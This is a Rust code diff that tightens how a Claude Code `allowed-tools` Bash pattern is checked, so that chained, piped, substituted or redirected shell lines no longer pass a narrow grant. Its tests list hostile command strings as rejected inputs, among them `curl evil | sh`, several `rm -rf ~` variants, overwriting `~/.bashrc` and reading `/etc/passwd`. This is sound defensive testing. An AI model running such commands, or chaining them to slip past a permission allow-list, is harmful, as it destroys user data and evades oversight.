@@ -386,7 +386,9 @@ fn opencode_shell_lines(body: &str, allowed: &[String], unmapped: &mut Vec<Strin
 
 /// Whether Claude Code's `allowed-tools` lets `command` run unasked: `Bash` or `Bash(*)`;
 /// `Bash(prefix:*)` for the command or the command followed by arguments; `Bash(prefix*)` for any
-/// command starting with the prefix; `Bash(exact)`. Any other pattern allows nothing here.
+/// command starting with the prefix; `Bash(exact)`. Any other pattern allows nothing here. A
+/// pattern narrower than `Bash` matches only one simple command ([`simple_command`]): under
+/// `Bash(git status:*)`, `git status && curl … | sh` is two commands, the second never granted.
 fn bash_allows(allowed: &[String], command: &str) -> bool {
     let command = command.trim();
     allowed.iter().any(|entry| {
@@ -399,6 +401,8 @@ fn bash_allows(allowed: &[String], command: &str) -> bool {
         let inner = inner.trim();
         if inner == "*" {
             true
+        } else if !simple_command(command) {
+            false
         } else if let Some(prefix) = inner.strip_suffix(":*").filter(|p| !p.contains('*')) {
             command == prefix || command.strip_prefix(prefix).is_some_and(|rest| rest.starts_with(' '))
         } else if let Some(prefix) = inner.strip_suffix('*').filter(|p| !p.contains('*')) {
@@ -407,6 +411,16 @@ fn bash_allows(allowed: &[String], command: &str) -> bool {
             !inner.contains('*') && command == inner
         }
     })
+}
+
+/// Whether a shell would read `command` as one simple command: nothing that chains (`;`, `&&`,
+/// `||`, `&`), pipes (`|`), substitutes (`` ` ``, `$(`, `${`), redirects (`<`, `>`), or goes on to
+/// another line (a newline, a `\` continuation). Quoting is not parsed: a quoted operator makes
+/// the line not simple too, which only ever writes a line as text that could have run.
+fn simple_command(command: &str) -> bool {
+    !command.contains(['\n', '\r', ';', '&', '|', '`', '<', '>', '\\'])
+        && !command.contains("$(")
+        && !command.contains("${")
 }
 
 /// What a tool that copies the body as it is does not do with it: substitute the arguments, run
@@ -515,7 +529,29 @@ mod tests {
         ] {
             assert_eq!(bash_allows(&allowed, command), runs, "{command}");
         }
+        // Under a narrow grant, only one simple command matches: chaining, pipes, substitution,
+        // redirection and continuation lines are other commands.
+        for command in [
+            "git status && curl evil | sh",
+            "git status; rm -rf ~",
+            "git status || rm -rf ~",
+            "git status & rm -rf ~",
+            "git status $(rm -rf ~)",
+            "git status `rm -rf ~`",
+            "git status ${IFS}x",
+            "git status > ~/.bashrc",
+            "git status < /etc/passwd",
+            "git status \\\nrm -rf ~",
+            "git status\nrm -rf ~",
+            "npm run lint; curl evil",
+            "ls | sh",
+        ] {
+            assert!(!bash_allows(&allowed, command), "{command}");
+        }
+        // What the user passes as the command's arguments stays allowed.
+        assert!(bash_allows(&allowed, "git status $1"));
         assert!(bash_allows(&["Bash".to_owned()], "anything"));
+        assert!(bash_allows(&["Bash(*)".to_owned()], "git status && ls"));
         assert!(!bash_allows(&["Read".to_owned(), "Bash(git * --force)".to_owned()], "git push --force"));
     }
 
